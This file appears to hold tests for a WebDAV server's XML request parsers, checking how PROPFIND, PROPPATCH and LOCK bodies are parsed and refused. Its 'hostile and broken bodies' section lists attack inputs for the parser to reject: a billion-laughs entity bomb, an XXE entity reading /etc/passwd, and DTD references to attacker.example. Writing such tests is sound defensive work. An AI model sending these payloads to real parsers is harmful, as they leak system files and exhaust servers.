import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { MultistatusWriter } from './multistatus.js';
import { DAV_NS, type QName } from './xml-common.js';
import {
  DavXmlError,
  type DavXmlErrorReason,
  parseLockInfo,
  parsePropfind,
  parsePropfindCached,
  parseProppatch,
  type PropPatchOp,
  type XmlBody,
} from './xml-request.js';
import { findElement, type InfoNode, readContent, readXml } from './xml-test-reader.js';

const D = (local: string): QName => ({ ns: DAV_NS, local });
const PF = (inner: string) => `<?xml version="1.0" encoding="utf-8"?><D:propfind xmlns:D="DAV:">${inner}</D:propfind>`;
const PU = (inner: string, rootAttrs = '') => `<D:propertyupdate xmlns:D="DAV:"${rootAttrs}>${inner}</D:propertyupdate>`;
const LI = (inner: string) => `<D:lockinfo xmlns:D="DAV:">${inner}</D:lockinfo>`;
const EXCLUSIVE_WRITE = '<D:lockscope><D:exclusive/></D:lockscope><D:locktype><D:write/></D:locktype>';

function errorOf(run: () => unknown): DavXmlError {
  try {
    run();
  } catch (e) {
    if (e instanceof DavXmlError) return e;
    throw new Error(`expected a DavXmlError, got ${String(e)}`);
  }
  throw new Error('expected a DavXmlError, got a result');
}

describe('parsePropfindCached', () => {
  const bytes = (text: string) => Buffer.from(text, 'utf8');

  it('answers what parsePropfind answers, the same frozen answer for the same bytes', () => {
    for (const body of [PF('<D:allprop/>'), PF('<D:prop><D:getetag/><x:a xmlns:x="urn:x"/></D:prop>'), PF('<D:propname/>'), PF('<D:allprop/><D:include><x:b xmlns:x="urn:x"/></D:include>'), '']) {
      const first = parsePropfindCached(bytes(body));
      expect(first).toEqual(parsePropfind(body));
      expect(parsePropfindCached(bytes(body))).toBe(first);
      expect(Object.isFrozen(first)).toBe(true);
      const names = first.kind === 'allprop' ? first.include : first.kind === 'prop' ? first.props : null;
      if (names !== null) expect(Object.isFrozen(names)).toBe(true);
      for (const n of names ?? []) expect(Object.isFrozen(n)).toBe(true);
    }
  });

  it('keys on the exact bytes: an invalid byte sequence is refused even after its replacement character was remembered', () => {
    // U+FFFD written out (EF BF BD) is a legitimate name; a lone 0xFF is invalid UTF-8, which a
    // decoding key would turn into that same U+FFFD.
    const valid = bytes(PF('<D:prop><D:getetag/>\uFFFD</D:prop>'));
    expect(parsePropfindCached(valid)).toEqual({ kind: 'prop', props: [D('getetag')] });
    const invalid = Buffer.from(valid.toString('latin1').replace('\u00ef\u00bf\u00bd', '\u00ff'), 'latin1');
    expect(invalid.length).toBe(valid.length - 2);
    expect(errorOf(() => parsePropfindCached(invalid)).reason).toBe('invalid_encoding');
  });

  it('remembers no failure: a body that fails fails every time', () => {
    const body = bytes(PF('<D:allprop/><D:propname/>'));
    expect(errorOf(() => parsePropfindCached(body)).reason).toBe('invalid_request');
    expect(errorOf(() => parsePropfindCached(body)).reason).toBe('invalid_request');
  });
});

describe('parsePropfind', () => {
  it.each<[string, XmlBody]>([
    ['undefined', undefined],
    ['null', null],
    ['empty string', ''],
    ['empty buffer', Buffer.alloc(0)],
    ['white space', ' \r\n\t'],
  ])('an empty body (%s) is allprop (RFC 4918 §9.1)', (_, body) => {
    expect(parsePropfind(body)).toEqual({ kind: 'allprop', include: [] });
  });

  it.each<[string, string, unknown]>([
    ['allprop', PF('<D:allprop/>'), { kind: 'allprop', include: [] }],
    [
      'allprop with include',
      PF('<D:allprop/><D:include><D:supported-live-property-set/><x:a xmlns:x="urn:x"/></D:include>'),
      { kind: 'allprop', include: [D('supported-live-property-set'), { ns: 'urn:x', local: 'a' }] },
    ],
    ['propname', PF('<D:propname/>'), { kind: 'propname' }],
    [
      'prop, mixed namespaces',
      PF('<D:prop><D:getetag/><R:bigbox xmlns:R="http://ns.example.com/boxschema/"/><nonamespace xmlns=""/></D:prop>'),
      {
        kind: 'prop',
        props: [D('getetag'), { ns: 'http://ns.example.com/boxschema/', local: 'bigbox' }, { ns: '', local: 'nonamespace' }],
      },
    ],
    [
      'DAV: as default namespace',
      '<propfind xmlns="DAV:"><prop><getcontentlength/><resourcetype/></prop></propfind>',
      { kind: 'prop', props: [D('getcontentlength'), D('resourcetype')] },
    ],
    ['a repeated name is listed once', PF('<D:prop><D:getetag/><D:getetag/></D:prop>'), { kind: 'prop', props: [D('getetag')] }],
    ['same local name, other namespace, is another property', PF('<D:prop><D:a/><a xmlns="urn:a"/></D:prop>'), {
      kind: 'prop',
      props: [D('a'), { ns: 'urn:a', local: 'a' }],
    }],
    ['an empty prop asks for nothing', PF('<D:prop/>'), { kind: 'prop', props: [] }],
    ['unknown siblings are ignored (§17)', PF('<x:hint xmlns:x="urn:x"/><D:propname/><D:future/>'), { kind: 'propname' }],
    ['comments and PIs are ignored', PF('<!-- c --><?pi x?><D:propname/>'), { kind: 'propname' }],
    ['content of requested properties is ignored', PF('<D:prop><D:getetag>junk<x/></D:getetag></D:prop>'), {
      kind: 'prop',
      props: [D('getetag')],
    }],
  ])('%s', (_, body, expected) => {
    expect(parsePropfind(body)).toEqual(expected);
  });

  it.each<[string, string, DavXmlErrorReason, number]>([
    ['propfind in no namespace', '<propfind><allprop/></propfind>', 'wrong_root', 422],
    ['another DAV: root', '<D:propertyupdate xmlns:D="DAV:"/>', 'wrong_root', 422],
    ['propfind in another namespace', '<x:propfind xmlns:x="urn:x"><x:allprop/></x:propfind>', 'wrong_root', 422],
    ['empty propfind element', PF(''), 'invalid_request', 422],
    ['allprop and prop', PF('<D:allprop/><D:prop><D:getetag/></D:prop>'), 'invalid_request', 422],
    ['propname and allprop', PF('<D:propname/><D:allprop/>'), 'invalid_request', 422],
    ['prop in another namespace', PF('<x:prop xmlns:x="urn:x"><D:getetag/></x:prop>'), 'invalid_request', 422],
    ['litmus propfind_invalid: not well-formed', '<foo>', 'not_well_formed', 400],
    [
      'litmus propfind_invalid2: xmlns:foo="" (undeclaring a prefix is XML 1.1 only)',
      '<?xml version="1.0"?><D:propfind xmlns:D="DAV:"><D:prop><foo:bar xmlns:foo=""/></D:prop></D:propfind>',
      'not_well_formed',
      400,
    ],
  ])('refuses %s', (_, body, reason, status) => {
    const err = errorOf(() => parsePropfind(body));
    expect(err.reason).toBe(reason);
    expect(err.status).toBe(status);
  });

  describe('byte bodies', () => {
    const body = PF('<D:prop><x:naïve xmlns:x="urn:ü"/></D:prop>');
    const expected = { kind: 'prop', props: [{ ns: 'urn:ü', local: 'naïve' }] };
    const utf16be = (s: string) => Buffer.from(Buffer.from(s, 'utf16le').swap16());

    it.each<[string, Buffer]>([
      ['UTF-8', Buffer.from(body)],
      ['UTF-8 with BOM', Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(body)])],
      ['UTF-16LE with BOM', Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(body.replace('utf-8', 'UTF-16'), 'utf16le')])],
      ['UTF-16BE with BOM', Buffer.concat([Buffer.from([0xfe, 0xff]), utf16be(body.replace('utf-8', 'utf-16'))])],
      ['UTF-16LE, no declaration', Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(body.replace(/^<\?xml[^>]*>/, ''), 'utf16le')])],
    ])('reads %s', (_, bytes) => {
      expect(parsePropfind(bytes)).toEqual(expected);
    });

    it('reads an ASCII body declared us-ascii', () => {
      expect(parsePropfind(Buffer.from('<?xml version="1.0" encoding="US-ASCII"?><D:propfind xmlns:D="DAV:"><D:propname/></D:propfind>'))).toEqual({
        kind: 'propname',
      });
    });

    it('a body given as a string is taken as decoded, whatever it declares', () => {
      expect(parsePropfind('<?xml version="1.0" encoding="ISO-8859-1"?><D:propfind xmlns:D="DAV:"><D:propname/></D:propfind>')).toEqual({
        kind: 'propname',
      });
    });
  });
});

describe('parseProppatch', () => {
  const Z = 'http://ns.example.com/standards/z39.50/';

  it('reads the RFC 4918 §9.2.2 example in document order', () => {
    const body = `<?xml version="1.0" encoding="utf-8" ?>
     <D:propertyupdate xmlns:D="DAV:" xmlns:Z="${Z}">
       <D:set>
         <D:prop>
           <Z:Authors>
             <Z:Author>Jim Whitehead</Z:Author>
             <Z:Author>Roy Fielding</Z:Author>
           </Z:Authors>
         </D:prop>
       </D:set>
       <D:remove>
         <D:prop><Z:Copyright-Owner/></D:prop>
       </D:remove>
     </D:propertyupdate>`;
    const ops = parseProppatch(body);
    expect(ops.map((o) => [o.op, o.name.local])).toEqual([
      ['set', 'Authors'],
      ['remove', 'Copyright-Owner'],
    ]);
    const set = ops[0] as Extract<PropPatchOp, { op: 'set' }>;
    expect(set.name).toEqual({ ns: Z, local: 'Authors' });
    expect(set.lang).toBeNull();
    // The white space between the authors is part of the value and is kept.
    expect(set.valueXml).toBe(
      `\n             <Z:Author xmlns:Z="${Z}">Jim Whitehead</Z:Author>\n             <Z:Author xmlns:Z="${Z}">Roy Fielding</Z:Author>\n           `,
    );
  });

  const setValue = (body: string, index = 0) => {
    const op = parseProppatch(body)[index]!;
    if (op.op !== 'set') throw new Error('expected a set');
    return op;
  };

  it.each<[string, string, string, string | null]>([
    // Each: the property element as the client writes it, the valueXml, the lang.
    ['plain text (litmus propset)', '<t:prop0 xmlns:t="http://example.com/neon/litmus/">value0</t:prop0>', 'value0', null],
    ['an empty value', '<t:e xmlns:t="urn:t"/>', '', null],
    ['no namespace (litmus propnullns)', '<nonamespace xmlns="">randomvalue</nonamespace>', 'randomvalue', null],
    ['characters above U+FFFF (litmus prophighunicode)', '<t:high xmlns:t="urn:t">&#x10000;𐀀😀</t:high>', '𐀀𐀀😀', null],
    ['non-ASCII and escapes', '<t:x xmlns:t="urn:t">Grüße &amp; &lt;tags&gt; "quotes" \'apos\'</t:x>', 'Grüße &amp; &lt;tags&gt; "quotes" \'apos\'', null],
    ['a CR written as a reference survives', '<t:x xmlns:t="urn:t">a&#13;b\r\nc</t:x>', 'a&#13;b\nc', null],
    ['CDATA becomes characters', '<t:x xmlns:t="urn:t"><![CDATA[<not markup> & ]]]]><![CDATA[>]]></t:x>', '&lt;not markup&gt; &amp; ]]&gt;', null],
    ['comments and PIs are not part of a value', '<t:x xmlns:t="urn:t">a<!-- c -->b<?pi?>c</t:x>', 'abc', null],
    ['xml:lang on the property element', '<t:x xmlns:t="urn:t" xml:lang="en-US">Color</t:x>', 'Color', 'en-US'],
    [
      'nested elements in other namespaces (litmus propvalnspace)',
      '<t:valnspace xmlns:t="urn:t"><foo xmlns="http://bar"/></t:valnspace>',
      '<foo xmlns="http://bar"/>',
      null,
    ],
    [
      'elements keep their prefixes; each top element declares what its subtree needs',
      '<t:x xmlns:t="urn:t" xmlns:a="urn:a"><a:b c="1" a:d="2"><t:e xml:lang="fr">x</t:e></a:b><a:f/></t:x>',
      '<a:b xmlns:a="urn:a" c="1" a:d="2"><t:e xmlns:t="urn:t" xml:lang="fr">x</t:e></a:b><a:f xmlns:a="urn:a"/>',
      null,
    ],
    [
      'a prefix rebound inside the value',
      '<t:x xmlns:t="urn:t"><t:a><t:b xmlns:t="urn:other"/></t:a></t:x>',
      '<t:a xmlns:t="urn:t"><t:b xmlns:t="urn:other"/></t:a>',
      null,
    ],
    [
      'unprefixed elements without a namespace undeclare any default',
      '<x xmlns="urn:t"><y xmlns=""><z/></y></x>',
      '<y xmlns=""><z/></y>',
      null,
    ],
    [
      'declarations written inside the value are kept (QNames in content)',
      '<t:x xmlns:t="urn:t"><t:v xmlns:xs="http://www.w3.org/2001/XMLSchema">xs:string</t:v></t:x>',
      '<t:v xmlns:xs="http://www.w3.org/2001/XMLSchema" xmlns:t="urn:t">xs:string</t:v>',
      null,
    ],
    ['attribute values are re-escaped', '<t:x xmlns:t="urn:t"><t:y a="&lt;&amp;&quot;&#9;&#10;&#13;\'"/></t:x>', '<t:y xmlns:t="urn:t" a="&lt;&amp;&quot;&#9;&#10;&#13;\'"/>', null],
  ])('keeps %s', (_, property, valueXml, lang) => {
    const op = setValue(PU(`<D:set><D:prop>${property}</D:prop></D:set>`));
    expect(op.valueXml).toBe(valueXml);
    expect(op.lang).toBe(lang);
  });

  it.each<[string, string, string | null]>([
    ['inherits xml:lang from the root', PU('<D:set><D:prop><t:x xmlns:t="urn:t">v</t:x></D:prop></D:set>', ' xml:lang="de"'), 'de'],
    ['inherits xml:lang from set', PU('<D:set xml:lang="ja"><D:prop><t:x xmlns:t="urn:t">v</t:x></D:prop></D:set>'), 'ja'],
    ['the nearest xml:lang wins', PU('<D:set xml:lang="ja"><D:prop><t:x xmlns:t="urn:t" xml:lang="fr">v</t:x></D:prop></D:set>'), 'fr'],
    ['xml:lang="" cancels an inherited one', PU('<D:set xml:lang="ja"><D:prop><t:x xmlns:t="urn:t" xml:lang="">v</t:x></D:prop></D:set>'), null],
  ])('%s', (_, body, lang) => {
    expect(setValue(body).lang).toBe(lang);
  });

  it('keeps several instructions and properties in document order', () => {
    const body = PU(
      '<D:remove><D:prop><t:a xmlns:t="urn:t"/><t:b xmlns:t="urn:t"/></D:prop></D:remove>' +
        '<D:set><D:prop><t:a xmlns:t="urn:t">1</t:a></D:prop><D:prop><t:c xmlns:t="urn:t">3</t:c></D:prop></D:set>' +
        '<x:other xmlns:x="urn:x"/>' +
        '<D:set><D:prop><t:a xmlns:t="urn:t">2</t:a></D:prop></D:set>',
    );
    expect(parseProppatch(body).map((o) => (o.op === 'set' ? `set ${o.name.local}=${o.valueXml}` : `remove ${o.name.local}`))).toEqual([
      'remove a',
      'remove b',
      'set a=1',
      'set c=3',
      'set a=2',
    ]);
  });

  it.each<[string, XmlBody, DavXmlErrorReason, number]>([
    ['an empty body', '', 'empty_body', 400],
    ['a propfind body', PF('<D:allprop/>'), 'wrong_root', 422],
    ['no instruction', PU(''), 'invalid_request', 422],
    ['only unknown instructions', PU('<D:frobnicate><D:prop><t:x xmlns:t="urn:t"/></D:prop></D:frobnicate>'), 'invalid_request', 422],
    ['set without prop', PU('<D:set><t:x xmlns:t="urn:t"/></D:set>'), 'invalid_request', 422],
    ['set with an empty prop only', PU('<D:set><D:prop/></D:set>'), 'invalid_request', 422],
  ])('refuses %s', (_, body, reason, status) => {
    const err = errorOf(() => parseProppatch(body));
    expect([err.reason, err.status]).toEqual([reason, status]);
  });
});

describe('parseLockInfo', () => {
  it.each<[string, string, unknown]>([
    ['exclusive, no owner', LI(EXCLUSIVE_WRITE), { scope: 'exclusive', type: 'write', owner: null }],
    [
      'shared with an href owner (RFC 4918 §9.10.7)',
      LI('<D:lockscope><D:shared/></D:lockscope><D:locktype><D:write/></D:locktype><D:owner><D:href>http://example.org/~ejw/contact.html</D:href></D:owner>'),
      { scope: 'shared', type: 'write', owner: '<D:href xmlns:D="DAV:">http://example.org/~ejw/contact.html</D:href>' },
    ],
    ['text owner (litmus, cadaver)', LI(`${EXCLUSIVE_WRITE}<D:owner>litmus test suite</D:owner>`), {
      scope: 'exclusive',
      type: 'write',
      owner: 'litmus test suite',
    }],
    ['empty owner', LI(`${EXCLUSIVE_WRITE}<D:owner/>`), { scope: 'exclusive', type: 'write', owner: '' }],
    ['children in any order, unknown ones ignored', LI('<x:y xmlns:x="urn:x"/><D:locktype><D:write/></D:locktype><D:lockscope><D:exclusive/></D:lockscope>'), {
      scope: 'exclusive',
      type: 'write',
      owner: null,
    }],
  ])('%s', (_, body, expected) => {
    expect(parseLockInfo(body)).toEqual(expected);
  });

  it.each<[string, XmlBody]>([
    ['undefined', undefined],
    ['empty', ''],
    ['blank', '\r\n'],
  ])('an empty body (%s) is a refresh: null', (_, body) => {
    expect(parseLockInfo(body)).toBeNull();
  });

  it.each<[string, string, DavXmlErrorReason]>([
    ['another root', PF('<D:allprop/>'), 'wrong_root'],
    ['no lockscope', LI('<D:locktype><D:write/></D:locktype>'), 'invalid_request'],
    ['no locktype', LI('<D:lockscope><D:exclusive/></D:lockscope>'), 'invalid_request'],
    ['two lockscopes', LI(`${EXCLUSIVE_WRITE}<D:lockscope><D:shared/></D:lockscope>`), 'invalid_request'],
    ['both scopes in one', LI('<D:lockscope><D:exclusive/><D:shared/></D:lockscope><D:locktype><D:write/></D:locktype>'), 'invalid_request'],
    ['an empty lockscope', LI('<D:lockscope/><D:locktype><D:write/></D:locktype>'), 'invalid_request'],
    ['an unknown scope', LI('<D:lockscope><D:cooperative/></D:lockscope><D:locktype><D:write/></D:locktype>'), 'invalid_request'],
    ['a read lock', LI('<D:lockscope><D:shared/></D:lockscope><D:locktype><D:read/></D:locktype>'), 'invalid_request'],
    ['two owners', LI(`${EXCLUSIVE_WRITE}<D:owner>a</D:owner><D:owner>b</D:owner>`), 'invalid_request'],
  ])('refuses %s with 422', (_, body, reason) => {
    const err = errorOf(() => parseLockInfo(body));
    expect([err.reason, err.status]).toEqual([reason, 422]);
  });
});

describe('hostile and broken bodies', () => {
  const TEN_MB = 10 * 1024 * 1024;
  const lol = [
    '<?xml version="1.0"?>',
    '<!DOCTYPE lolz [',
    '<!ENTITY lol "lol">',
    ...Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i === 0 ? '' : i};`.repeat(10)}">`),
    ']>',
    '<D:propfind xmlns:D="DAV:"><D:prop><x>&lol9;</x></D:prop></D:propfind>',
  ].join('\n');

  const cases: Array<[string, XmlBody, DavXmlErrorReason, number]> = [
    ['billion laughs', lol, 'doctype_forbidden', 400],
    [
      'external SYSTEM entity (XXE)',
      '<?xml version="1.0"?><!DOCTYPE D:propfind [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><D:propfind xmlns:D="DAV:"><D:prop><x>&xxe;</x></D:prop></D:propfind>',
      'doctype_forbidden',
      400,
    ],
    [
      'external DTD',
      '<!DOCTYPE D:propfind SYSTEM "http://attacker.example/evil.dtd"><D:propfind xmlns:D="DAV:"><D:allprop/></D:propfind>',
      'doctype_forbidden',
      400,
    ],
    [
      'parameter entity',
      '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]><D:propfind xmlns:D="DAV:"><D:allprop/></D:propfind>',
      'doctype_forbidden',
      400,
    ],
    ['a bare DOCTYPE', '<!DOCTYPE D:propfind><D:propfind xmlns:D="DAV:"><D:allprop/></D:propfind>', 'doctype_forbidden', 400],
    ['10 MB of nesting', '<a>'.repeat(Math.ceil(TEN_MB / 3)), 'too_deep', 400],
    ['10 MB of nesting as bytes', Buffer.from('<D:propfind xmlns:D="DAV:">' + '<D:prop>'.repeat(TEN_MB / 8)), 'too_deep', 400],
    ['10 MB of siblings', PF(`<D:prop>${'<x/>'.repeat(TEN_MB / 4)}</D:prop>`), 'too_many_elements', 400],
    [
      'one start tag with 10 MB of attributes',
      PF(`<D:prop><x${Array.from({ length: TEN_MB / 16 }, (_, i) => ` a${i}="x"`).join('')}/></D:prop>`),
      'too_many_attributes',
      400,
    ],
    [
      'one start tag with 10 MB of namespace declarations',
      PF(`<D:prop><x${Array.from({ length: TEN_MB / 24 }, (_, i) => ` xmlns:p${i}="urn:${i}"`).join('')}/></D:prop>`),
      'too_many_attributes',
      400,
    ],
    ['invalid UTF-8 byte', Buffer.from([...Buffer.from(PF('<D:prop><x')), 0xff, ...Buffer.from('/></D:prop>')]), 'invalid_encoding', 400],
    ['overlong UTF-8 (/ as C0 AF)', Buffer.from([...Buffer.from(PF('<D:prop><x a="')), 0xc0, 0xaf, ...Buffer.from('"/></D:prop>')]), 'invalid_encoding', 400],
    ['UTF-8-encoded surrogate', Buffer.from([...Buffer.from(PF('<D:prop><x a="')), 0xed, 0xa0, 0x80, ...Buffer.from('"/></D:prop>')]), 'invalid_encoding', 400],
    ['truncated UTF-8 sequence', Buffer.from([...Buffer.from(PF('<D:prop><x/></D:prop>')), 0xe2, 0x82]), 'invalid_encoding', 400],
    ['unpaired UTF-16 surrogate', Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('<a>', 'utf16le'), Buffer.from([0x00, 0xd8]), Buffer.from('</a>', 'utf16le')]), 'invalid_encoding', 400],
    ['lone surrogate in a string body', PF('<D:prop><x a="\uD800"/></D:prop>'), 'invalid_encoding', 400],
    ['UTF-16 declared, no BOM', Buffer.from('<?xml version="1.0" encoding="UTF-16"?><a/>'), 'invalid_encoding', 400],
    ['us-ascii declared, UTF-8 sent', Buffer.from('<?xml version="1.0" encoding="us-ascii"?><a>é</a>'), 'invalid_encoding', 400],
    ['ISO-8859-1 declared', Buffer.from('<?xml version="1.0" encoding="ISO-8859-1"?><D:propfind xmlns:D="DAV:"><D:allprop/></D:propfind>'), 'unsupported_encoding', 415],
    ['UTF-16 sent without BOM', Buffer.from('<a/>', 'utf16le'), 'not_well_formed', 400],
    ['undeclared element prefix', '<D:propfind xmlns:D="DAV:"><D:prop><x:y/></D:prop></D:propfind>', 'not_well_formed', 400],
    ['undeclared attribute prefix', PF('<D:prop><y x:a="1"/></D:prop>'), 'not_well_formed', 400],
    ['undeclared root prefix', '<D:propfind><D:allprop/></D:propfind>', 'not_well_formed', 400],
    ['xml prefix rebound', '<a xmlns:xml="urn:not-xml"/>', 'not_well_formed', 400],
    ['an undefined entity', PF('<D:prop><x>&nbsp;</x></D:prop>'), 'not_well_formed', 400],
    ['a C0 control by reference', PF('<D:prop><x>&#1;</x></D:prop>'), 'not_well_formed', 400],
    ['a C0 control by reference, XML 1.1 declared', '<?xml version="1.1"?><a>&#1;</a>', 'not_well_formed', 400],
    ['NUL', PF('<D:prop><x>\u0000</x></D:prop>'), 'not_well_formed', 400],
    ['U+FFFE', PF('<D:prop><x>\uFFFE</x></D:prop>'), 'not_well_formed', 400],
    ['unclosed element', '<D:propfind xmlns:D="DAV:"><D:allprop/>', 'not_well_formed', 400],
    ['mismatched end tag', PF('<D:prop></D:allprop>'), 'not_well_formed', 400],
    ['two roots', `${PF('<D:allprop/>')}${PF('<D:allprop/>')}`, 'not_well_formed', 400],
    ['text after the root', `${PF('<D:allprop/>')}junk`, 'not_well_formed', 400],
    ['text before the root', `junk${PF('<D:allprop/>')}`, 'not_well_formed', 400],
    ['duplicate attribute', PF('<D:prop><x a="1" a="2"/></D:prop>'), 'not_well_formed', 400],
    ['same attribute through two prefixes', PF('<D:prop><x xmlns:p="urn:p" xmlns:q="urn:p" p:a="1" q:a="2"/></D:prop>'), 'not_well_formed', 400],
    ['JSON', '{"propfind": "allprop"}', 'not_well_formed', 400],
  ];

  it.each(cases)('refuses %s quickly', (_, body, reason, status) => {
    for (const parse of [parsePropfind, parseProppatch, parseLockInfo]) {
      const started = performance.now();
      const err = errorOf(() => parse(body));
      // The generous bound catches an expansion or a full 10 MB tree, not a slow machine.
      expect(performance.now() - started).toBeLessThan(2000);
      expect([err.reason, err.status]).toEqual([reason, status]);
    }
  });

  it('stops at the depth limit without reading the rest of the body', () => {
    // Broken XML after the limit: had the parser gone on, it would report that error instead.
    const body = '<a>'.repeat(65) + '<<<<' + '<a>'.repeat(1000);
    expect(errorOf(() => parsePropfind(body)).reason).toBe('too_deep');
  });

  it.each([
    [{ maxDepth: 3 }, PF('<D:prop><x/></D:prop>'), 'ok'],
    [{ maxDepth: 2 }, PF('<D:prop><x/></D:prop>'), 'too_deep'],
    [{ maxElements: 4 }, PF('<D:prop><x/><y/></D:prop>'), 'ok'],
    [{ maxElements: 3 }, PF('<D:prop><x/><y/></D:prop>'), 'too_many_elements'],
    [{ maxAttributes: 2 }, PF('<D:prop><x a="1" xmlns:b="urn:b"/></D:prop>'), 'ok'],
    [{ maxAttributes: 1 }, PF('<D:prop><x a="1" xmlns:b="urn:b"/></D:prop>'), 'too_many_attributes'],
  ] as const)('limits %o are exact', (limits, body, outcome) => {
    if (outcome === 'ok') expect(parsePropfind(body, limits).kind).toBe('prop');
    else expect(errorOf(() => parsePropfind(body, limits)).reason).toBe(outcome);
  });

  it('lets a well-formed value use 64 levels by default', () => {
    const value = '<t:a xmlns:t="urn:t">'.repeat(60) + '</t:a>'.repeat(60);
    const op = parseProppatch(PU(`<D:set><D:prop><t:p xmlns:t="urn:t">${value}</t:p></D:prop></D:set>`))[0];
    expect(op?.op).toBe('set');
  });

  it('never throws anything but DavXmlError, on any string', () => {
    fc.assert(
      fc.property(fc.string({ unit: fc.constantFrom('<', '>', '/', 'D:', 'a', '=', '"', '&', ';', '!', '?', ' ', 'xmlns:D="DAV:"', 'propfind', 'prop') }), (s) => {
        for (const parse of [parsePropfind, parseProppatch, parseLockInfo]) {
          try {
            parse(s);
          } catch (e) {
            expect(e).toBeInstanceOf(DavXmlError);
          }
        }
      }),
      { numRuns: 500 },
    );
  });
});

// ---------------------------------------------------------------------------------------------
// Round trip: a value as a client writes it in PROPPATCH → valueXml → PROPFIND multistatus →
// what the client reads back must be the same elements, attributes and characters.

interface GenElement {
  readonly ns: string;
  readonly local: string;
  /** '' = default namespace; 'r' is bound to urn:a on the root and used without a local declaration. */
  readonly prefix: string;
  readonly attrs: ReadonlyArray<{ readonly ns: string; readonly local: string; readonly value: string }>;
  readonly children: readonly GenNode[];
}
type GenNode = string | GenElement;

const NAMESPACES = ['', 'urn:a', DAV_NS, 'http://example.com/ns#', 'urn:ü', 'urn:q"&<>'];
const XML_NS = 'http://www.w3.org/XML/1998/namespace';
const ATTR_NAMESPACES = ['', 'urn:a', 'urn:b', XML_NS];
const LOCALS = ['a', 'b', 'Author', 'ñame', '_x', 'x-y.z', '日本', 'ns0', 'lang'];
// Prefixes that could collide with the writer's own: `D` (bound to DAV: there) and `ns0`.
const PREFIXES = ['', 'x', 'D', 'ns0', 'r'];

const isXmlChar = (c: string) => {
  const cp = c.codePointAt(0)!;
  return cp === 0x9 || cp === 0xa || cp === 0xd || (cp >= 0x20 && cp <= 0xd7ff) || (cp >= 0xe000 && cp <= 0xfffd) || cp >= 0x10000;
};
const xmlCharArb = fc.oneof(
  fc.constantFrom('&', '<', '>', '"', "'", '\r', '\n', '\t', ' ', ']', ']]>', '\r\n'),
  fc.string({ unit: 'binary', minLength: 1, maxLength: 1 }).filter(isXmlChar),
);
const textArb = fc.string({ unit: xmlCharArb, maxLength: 12 });

const attrsArb = fc.uniqueArray(
  fc.record({ ns: fc.constantFrom(...ATTR_NAMESPACES), local: fc.constantFrom(...LOCALS), value: textArb }),
  { maxLength: 3, selector: (a) => `${a.ns} ${a.ns === XML_NS ? 'lang' : a.local}` },
);

const elementArb: fc.Arbitrary<GenElement> = fc.letrec<{ element: GenElement; node: GenNode }>((tie) => ({
  element: fc
    .record({
      ns: fc.constantFrom(...NAMESPACES),
      prefix: fc.constantFrom(...PREFIXES),
      local: fc.constantFrom(...LOCALS),
      attrs: attrsArb,
      children: fc.array(tie('node'), { maxLength: 4, depthIdentifier: 'value' }),
    })
    .map((e) => ({
      ...e,
      // No prefix can be bound to "no namespace"; `r` is only ever bound to urn:a.
      prefix: e.ns === '' ? '' : e.prefix === 'r' && e.ns !== 'urn:a' ? 'x' : e.prefix,
      attrs: e.attrs.map((a) => (a.ns === XML_NS ? { ...a, local: 'lang' } : a)),
    })),
  node: fc.oneof({ depthIdentifier: 'value', maxDepth: 4 }, textArb, tie('element')),
})).element;

// The test's own escaping, with character references only, so as not to share code with the writer.
const ref = (c: string) => `&#${c.codePointAt(0)};`;
const genText = (s: string) => s.replace(/[&<>\r]/g, ref);
const genAttr = (s: string) => s.replace(/[&<"\t\n\r]/g, ref);

function writeGen(node: GenNode): string {
  if (typeof node === 'string') return genText(node);
  const decl = node.prefix === 'r' ? '' : node.prefix === '' ? ` xmlns="${genAttr(node.ns)}"` : ` xmlns:${node.prefix}="${genAttr(node.ns)}"`;
  const attrs = node.attrs
    .map((a, i) => {
      if (a.ns === '') return ` ${a.local}="${genAttr(a.value)}"`;
      if (a.ns === XML_NS) return ` xml:lang="${genAttr(a.value)}"`;
      return ` xmlns:at${i}="${genAttr(a.ns)}" at${i}:${a.local}="${genAttr(a.value)}"`;
    })
    .join('');
  const qname = node.prefix === '' ? node.local : `${node.prefix}:${node.local}`;
  return `<${qname}${decl}${attrs}>${node.children.map(writeGen).join('')}</${qname}>`;
}

/** What a reader sees of generated content: merged characters, sorted attributes, prefixes. */
function expectedInfo(nodes: readonly GenNode[]): InfoNode[] {
  const out: InfoNode[] = [];
  for (const n of nodes) {
    if (typeof n === 'string') {
      // genText wrote every CR as a reference, so the characters come back exactly.
      if (n === '') continue;
      if (typeof out.at(-1) === 'string') out[out.length - 1] += n;
      else out.push(n);
    } else {
      out.push({
        ns: n.ns,
        local: n.local,
        prefix: n.prefix,
        attrs: n.attrs
          .map((a, i) => [a.ns, a.local, a.ns === '' ? '' : a.ns === XML_NS ? 'xml' : `at${i}`, a.value] as const)
          .sort((a, b) => (a[0] < b[0] ? -1 : a[0] > b[0] ? 1 : a[1] < b[1] ? -1 : a[1] > b[1] ? 1 : 0)),
        children: expectedInfo(n.children),
      });
    }
  }
  return out;
}

const propertyArb = fc.record({
  name: fc.record({ ns: fc.constantFrom('urn:a', 'http://example.com/neon/litmus/', '', DAV_NS), local: fc.constantFrom('p', 'prop0', 'ñ') }),
  content: fc.array(fc.oneof(textArb, elementArb), { maxLength: 4 }),
  lang: fc.option(fc.constantFrom('en', 'de-CH', 'x-klingon'), { nil: null }),
  langOnSet: fc.boolean(),
});

type GenProperty = typeof propertyArb extends fc.Arbitrary<infer T> ? T : never;

function proppatchBody(p: GenProperty, content: string): string {
  const { name, lang, langOnSet } = p;
  const langAttr = lang === null ? '' : ` xml:lang="${lang}"`;
  const qname = name.ns === '' ? name.local : `p:${name.local}`;
  const decl = name.ns === '' ? ' xmlns=""' : ` xmlns:p="${name.ns}"`;
  return (
    // Bindings on the root that a careless serializer would rely on: a default namespace, `r`, `x`.
    `<D:propertyupdate xmlns:D="DAV:" xmlns="urn:default" xmlns:r="urn:a" xmlns:x="urn:decoy">` +
    `<D:set${langOnSet ? langAttr : ''}><D:prop><${qname}${decl}${langOnSet ? '' : langAttr}>${content}</${qname}></D:prop></D:set>` +
    '</D:propertyupdate>'
  );
}

